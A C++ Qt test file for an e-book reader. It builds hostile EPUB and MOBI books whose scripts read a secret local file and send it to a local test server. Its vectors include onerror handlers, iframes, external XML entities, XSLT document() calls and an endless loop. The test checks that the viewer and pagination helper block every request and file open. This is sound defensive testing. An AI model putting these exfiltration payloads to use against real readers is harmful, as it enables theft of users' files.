#include "core/paths.h"
#include "document/scriptstripper.h"
#include "formats/epub/epubdocument.h"
#include "formats/mobi/mobidocument.h"
#include "pagination/pagescript.h"
#include "pagination/paginationclient.h"
#include "reader/viewerpage.h"
#include "tests/archive/zipfixture.h"
#include "tests/formats/mobi/mobiwriter.h"
#include "tests/support/testenvironment.h"

#include <QDirIterator>
#include <QImage>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QWebFrame>
#include <QWebPage>

#include <sys/inotify.h>
#include <unistd.h>

// Books made to reach outside themselves: their scripts read a secret file
// beside the book and send it to a web server of the test's own, and their
// markup names remote and outside files every way a page can load one. In
// the viewer's page and in the pagination helper alike, no request may
// reach the server and no file outside the book may be opened.
class TestHostileBooks : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString m_book;
    QString m_outside;
    QTcpServer m_server;
    int m_requests = 0;
    int m_watch = -1;

    QString remote() const
    {
        return QStringLiteral("http://127.0.0.1:%1").arg(m_server.serverPort());
    }

    QString secretUrl() const { return QUrl::fromLocalFile(m_outside).toString(); }

    // A script that reads the secret and sends it out, as a book would.
    QString leakFunction() const
    {
        return QStringLiteral("function leak(w){var t='';try{var x=new XMLHttpRequest();"
                              "x.open('GET','%1/secret.txt',false);x.send();t=x.responseText;}"
                              "catch(e){}new Image().src='%2/leak?'+w+encodeURIComponent(t);}")
                .arg(secretUrl(), remote());
    }

    QString expand(QString text) const
    {
        text.replace(QLatin1String("LEAKFN"), leakFunction());
        text.replace(QLatin1String("REMOTE"), remote());
        text.replace(QLatin1String("SECRET"), secretUrl());
        return text;
    }

    static void writeFile(const QString &path, const QByteArray &bytes)
    {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        QCOMPARE(file.write(bytes), bytes.size());
    }

    // The book's documents by name, every one a way out.
    QList<QPair<QString, QString>> hostileDocuments() const
    {
        return {
            { QStringLiteral("scripted.html"),
              QStringLiteral(
                      "<html><head><meta http-equiv='refresh' content='0;url=REMOTE/refresh'>"
                      "<link rel='stylesheet' href='REMOTE/style.css'>"
                      "<link rel='stylesheet' href='SECRET/secret.css'>"
                      "<link rel='prefetch' href='REMOTE/prefetch'>"
                      "<style>@import url('REMOTE/import.css');"
                      "@font-face{font-family:x;src:url('REMOTE/font.ttf')}"
                      "body{font-family:x;background:url('REMOTE/bg.png')}</style>"
                      "<script>LEAKFN leak('inline');</script></head>"
                      "<body onload=\"leak('onload')\"><p>text</p>"
                      "<img src='REMOTE/pixel.png'><img src='SECRET/secret.png'>"
                      "<img src='../outside/secret.png'>"
                      "<img src='missing.png' onerror=\"leak('onerror')\">"
                      "<iframe src='REMOTE/frame.html'></iframe>"
                      "<iframe src='SECRET/secret.html'></iframe>"
                      "<iframe src='frame.xhtml'></iframe>"
                      "<iframe srcdoc=\"<script>leak('srcdoc')</script>\"></iframe>"
                      "<iframe src=\"data:text/html,<script>leak('data')</script>\"></iframe>"
                      "<object data='drawing.svg' type='image/svg+xml'></object>"
                      "<object data='REMOTE/o.swf' type='application/x-shockwave-flash'></object>"
                      "<embed src='REMOTE/e.swf'>"
                      "<video src='REMOTE/v.webm' autoplay preload='auto'></video>"
                      "<audio src='REMOTE/a.ogg' autoplay preload='auto'></audio>"
                      "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
                      "<image href='REMOTE/svg.png' width='9' height='9'/></svg>"
                      "<form id='f' action='REMOTE/form'></form>"
                      "<script>document.getElementById('f').submit();</script>"
                      "</body></html>") },
            { QStringLiteral("frame.xhtml"),
              QStringLiteral("<?xml version='1.0'?>"
                             "<!DOCTYPE html [<!ENTITY s SYSTEM 'SECRET/secret.txt'>]>"
                             "<html xmlns='http://www.w3.org/1999/xhtml'><head>"
                             "<script>LEAKFN leak('xhtml');</script></head>"
                             "<body><p>&s;</p><img src='REMOTE/x.png'/></body></html>") },
            { QStringLiteral("comment.html"),
              QStringLiteral("<p>a</p><!--><script>LEAKFN leak('comment');</script>-->") },
            { QStringLiteral("cdata.html"),
              QStringLiteral("<p>a</p><![CDATA[><script>LEAKFN leak('cdata');</script>]]>") },
            { QStringLiteral("drawing.svg"),
              QStringLiteral("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
                             "<script>LEAKFN leak('svg');</script>"
                             "<image href='REMOTE/svg2.png' width='9' height='9'/></svg>") },
            { QStringLiteral("page.xml"),
              QStringLiteral("<?xml version='1.0'?>"
                             "<?xml-stylesheet type='text/xsl' href='style.xsl'?><book/>") },
            { QStringLiteral("style.xsl"),
              QStringLiteral("<xsl:stylesheet version='1.0' "
                             "xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
                             "<xsl:template match='/'><html><body>"
                             "<p><xsl:value-of select=\"document('SECRET/secret.xsl')\"/></p>"
                             "<img src='REMOTE/xslt.png'/>"
                             "<script>LEAKFN leak('xslt');</script></body></html>"
                             "</xsl:template></xsl:stylesheet>") },
            { QStringLiteral("dtd.xhtml"),
              QStringLiteral("<?xml version='1.0'?>"
                             "<!DOCTYPE html SYSTEM 'SECRET/secret.dtd'>"
                             "<html xmlns='http://www.w3.org/1999/xhtml'><body><p>d</p>"
                             "</body></html>") },
            { QStringLiteral("endless.html"),
              QStringLiteral("<p>e</p><script>for (;;) {}</script>") },
        };
    }

    // The documents a page loads as pages of their own.
    static QStringList pages()
    {
        return { QStringLiteral("scripted.html"), QStringLiteral("frame.xhtml"),
                 QStringLiteral("comment.html"),  QStringLiteral("cdata.html"),
                 QStringLiteral("drawing.svg"),   QStringLiteral("page.xml"),
                 QStringLiteral("dtd.xhtml"),     QStringLiteral("endless.html") };
    }

    // Opens of files beside the book since the last call.
    int secretOpens()
    {
        int opens = 0;
        char buffer[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
        for (;;) {
            const ssize_t length = ::read(m_watch, buffer, sizeof buffer);
            if (length <= 0)
                break;
            for (char *at = buffer; at < buffer + length;) {
                const auto *event = reinterpret_cast<const inotify_event *>(at);
                if (!(event->mask & IN_ISDIR))
                    ++opens;
                at += sizeof(inotify_event) + event->len;
            }
        }
        return opens;
    }

    // Lets late loads of the page happen, and the server take them.
    void settle(int msecs = 400) { QTest::qWait(msecs); }

    static bool load(QWebPage *page, const QString &path)
    {
        QSignalSpy finished(page->mainFrame(), &QWebFrame::loadFinished);
        page->mainFrame()->load(QUrl::fromLocalFile(path));
        return !finished.isEmpty() || finished.wait(10000);
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_book = m_dir.filePath(QStringLiteral("book"));
        m_outside = m_dir.filePath(QStringLiteral("outside"));
        QVERIFY(QDir().mkpath(m_book));
        QVERIFY(QDir().mkpath(m_outside));
        QVERIFY(m_server.listen(QHostAddress::LocalHost));
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                ++m_requests;
                socket->write("HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n");
                socket->disconnectFromHost();
                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });

        QImage picture(4, 4, QImage::Format_RGB32);
        picture.fill(Qt::red);
        QVERIFY(picture.save(m_outside + QStringLiteral("/secret.png")));
        writeFile(m_outside + QStringLiteral("/secret.txt"), "the user's secret");
        writeFile(m_outside + QStringLiteral("/secret.css"), "body { color: red }");
        writeFile(m_outside + QStringLiteral("/secret.dtd"), "<!ENTITY x 'secret'>");
        writeFile(m_outside + QStringLiteral("/secret.xsl"), "<secret>xsl</secret>");
        writeFile(m_outside + QStringLiteral("/secret.html"), "<p>secret</p>");
        for (const auto &document : hostileDocuments())
            writeFile(m_book + QLatin1Char('/') + document.first, expand(document.second).toUtf8());

        m_watch = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
        QVERIFY(m_watch >= 0);
        QVERIFY(inotify_add_watch(m_watch, QFile::encodeName(m_outside).constData(),
                                  IN_OPEN | IN_ACCESS)
                >= 0);
    }

    void cleanupTestCase()
    {
        if (m_watch >= 0)
            ::close(m_watch);
        m_dir.setAutoRemove(!QTest::currentTestFailed());
    }

    // The book does reach out from a page without the policy: the server
    // and the watch see what the other tests must not.
    void booksReachOutOfAnOpenPage()
    {
        QWebPage page;
        page.settings()->setAttribute(QWebSettings::JavascriptEnabled, true);
        m_requests = 0;
        secretOpens();
        QVERIFY(load(&page, m_book + QStringLiteral("/scripted.html")));
        settle();
        QVERIFY(m_requests > 0);
        QVERIFY(secretOpens() > 0);
    }

    void viewerPageKeepsTheBookIn()
    {
        const QString script = PageScript::text();
        QVERIFY(!script.isEmpty());
        m_requests = 0;
        secretOpens();
        for (const QString &name : pages()) {
            ViewerPage page;
            page.setContentFolder(m_book);
            page.setViewportSize(QSize(800, 600));
            QVERIFY2(load(&page, m_book + QLatin1Char('/') + name), qPrintable(name));
            // The program's own calls switch scripting on for a moment.
            page.evaluate(script + QStringLiteral("init('x');paginate(2,30,800,600,20);"));
            settle(200);
            QVERIFY2(m_requests == 0, qPrintable(name));
            QVERIFY2(secretOpens() == 0, qPrintable(name));
        }
    }

    void helperKeepsTheBookIn()
    {
        PaginationClient client;
        client.setProgram(TestEnvironment::binDir() + QStringLiteral("/quirelet"));
        PaginationRequest request;
        request.pageSize = QSize(800, 600);
        request.pageScript = PageScript::text();
        request.contentFolder = m_book;
        request.documents = pages();
        for (const QString &name : pages())
            request.pageCounts.insert(name, 0);
        m_requests = 0;
        secretOpens();
        QVERIFY(client.send(request));
        // A book script that never ends would stall the helper for good.
        const bool replied = client.waitForReply(60000);
        settle();
        QCOMPARE(m_requests, 0);
        QCOMPARE(secretOpens(), 0);
        QVERIFY2(replied, qPrintable(client.lastError()));
        QVERIFY(client.reply().pageCounts.value(QStringLiteral("scripted.html")) > 0);
    }

    // What the reader hands its pages has no script left in it, in any
    // document of an EPUB, or in a MOBI book's markup.
    void openedBooksHoldNoScripts()
    {
        ZipFixture::Epub epub;
        epub.chapters = QStringList { QStringLiteral("<p>One</p><iframe src='scripted.html'/>") };
        for (const auto &document : hostileDocuments()) {
            epub.extra.append({ QStringLiteral("OEBPS/") + document.first,
                                expand(document.second).toUtf8() });
        }
        const QString epubPath = m_dir.filePath(QStringLiteral("hostile.epub"));
        QVERIFY(epub.write(epubPath));
        epub::EpubDocument document(epubPath);
        QVERIFY(document.load());

        int checked = 0;
        QDirIterator files(Paths::bookPath(epubPath), QDir::Files, QDirIterator::Subdirectories);
        while (files.hasNext()) {
            const QString path = files.next();
            QFile file(path);
            QVERIFY(file.open(QIODevice::ReadOnly));
            const QByteArray content = file.readAll();
            QVERIFY2(!content.contains("leak("), qPrintable(path));
            bool changed = true;
            ScriptStripper::strip(content, &changed);
            QVERIFY2(!changed, qPrintable(path));
            ++checked;
        }
        QVERIFY(checked > hostileDocuments().size());

        mobitest::MobiLayout layout;
        layout.text = expand(QStringLiteral("<html><body><p onclick=\"leak('mobi')\">t</p>"
                                            "<script>LEAKFN leak('mobi');</script></body></html>"))
                              .toUtf8();
        const QString mobiPath = m_dir.filePath(QStringLiteral("hostile.mobi"));
        writeFile(mobiPath, mobitest::makeMobi(layout));
        mobi::MobiDocument mobiDocument(mobiPath);
        QVERIFY(mobiDocument.load());
        QFile page(mobiDocument.files().first() + QLatin1Char('/') + mobiDocument.files().last());
        QVERIFY(page.open(QIODevice::ReadOnly));
        const QByteArray markup = page.readAll();
        QVERIFY(markup.contains("<p>t</p>"));
        QVERIFY(!markup.contains("leak("));
    }
};

VL_TEST_WIDGETS_MAIN(TestHostileBooks)
#include "tst_hostilebooks.moc"
